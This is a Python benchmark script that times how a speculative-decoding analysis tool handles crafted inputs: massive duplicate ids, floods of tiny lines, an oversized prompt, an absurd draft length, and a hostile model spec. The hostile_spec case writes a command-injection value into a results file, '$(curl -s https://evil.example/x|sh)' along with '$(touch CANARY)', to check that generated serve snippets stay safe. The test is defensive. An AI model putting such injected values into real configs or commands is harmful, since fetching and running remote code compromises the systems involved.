"""Each crafted input of issue 20, timed from the bytes to the one line the user sees.

    python benchmarks/crafted_inputs.py

Inputs: 100k copies of one prompt id (2.5 MB), a 50 MB upload of one-character lines, a results.json with
draft_length 10**9, a results.json whose target spec is a shell command, a 1.2M-character prompt. Every
outcome must arrive within 10 s as a single line; the last line of output is JSON with every timing.
"""

from __future__ import annotations

import json
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from specdec import results as R  # noqa: E402
from specdec.analysis import decision  # noqa: E402
from specdec.errors import SpecdecError  # noqa: E402
from specdec.measure.workloads import load_workload  # noqa: E402

FIXTURE = ROOT / "tests" / "fixtures" / "tiny_run" / "results.json"
LIMIT_S = 10.0


def outcome(fn) -> tuple[float, float, str]:
    """(wall seconds, CPU seconds, the one line the user sees: the error, or a summary of what was accepted)."""
    t0, c0 = time.perf_counter(), time.process_time()
    try:
        line = fn()
    except SpecdecError as exc:
        line = f"error: {exc}"
    return time.perf_counter() - t0, time.process_time() - c0, line


def duplicate_ids() -> str:
    data = "".join(f'{{"id": "same", "prompt": "p {i}"}}\n' for i in range(100_000)).encode()
    w = load_workload(data, name="dups.jsonl")
    renamed = [x for x in w.warnings if "repeated id" in x]
    return f"{len(w.prompts):,} prompts ({len(data) / 1e6:.1f} MB); {renamed[0][:90]}…"


def one_char_lines() -> str:
    w = load_workload(b"a\n" * (25 * 1024 * 1024), name="flood.txt")
    return f"accepted {len(w.prompts):,} prompts"


def results_file(change) -> Path:
    data = json.loads(FIXTURE.read_text())
    change(data)
    path = Path(tempfile.mkdtemp()) / "results.json"
    path.write_text(json.dumps(data))
    return path


def huge_gamma() -> str:
    path = results_file(lambda d: d["prompts"][0]["runs"][0].update(draft_length=10**9))
    R.load(path)
    return "accepted"


def hostile_spec() -> str:
    def change(d):
        d["manifest"]["models"]["target"].update(spec="Qwen/x $(curl -s https://evil.example/x|sh)",
                                                 local_path="/m/$(touch CANARY)")
    results = R.load(results_file(change))
    th = decision.Thresholds(min_prompts=1, min_prompts_per_segment=1, min_speedup_lo=0.01, min_identical_rate=0.0)
    d = decision.decide(results, thresholds=th)
    vllm = next(line for line in d.snippets["vllm"].splitlines() if line.startswith("vllm serve"))
    return f"{d.headline[:40]}…; snippet: {vllm.strip()}"


def huge_prompt() -> str:
    data = (json.dumps({"id": "huge", "prompt": "x" * 1_200_000}) + "\n"
            + json.dumps({"id": "ok", "prompt": "hello"}) + "\n").encode()
    w = load_workload(data, name="w.jsonl")
    return f"{len(w.prompts)} prompt kept; skipped: {w.skipped[0]}"


def main() -> int:
    cases = {"duplicate ids x100k": duplicate_ids, "50 MB of one-character lines": one_char_lines,
             "draft_length 10**9": huge_gamma, "hostile model spec": hostile_spec,
             "1.2M-character prompt": huge_prompt}
    timings, cpu, ok = {}, {}, True
    for name, fn in cases.items():
        seconds, cpu_s, line = outcome(fn)
        timings[name], cpu[name] = round(seconds, 3), round(cpu_s, 3)
        good = seconds <= LIMIT_S and "\n" not in line
        ok &= good
        print(f"{name:<30} {seconds:6.2f} s wall {cpu_s:6.2f} s CPU  {'ok ' if good else 'BAD'}  {line[:200]}")
    print(json.dumps({"limit_s": LIMIT_S, "seconds": timings, "cpu_seconds": cpu, "all_within_limit": ok}))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
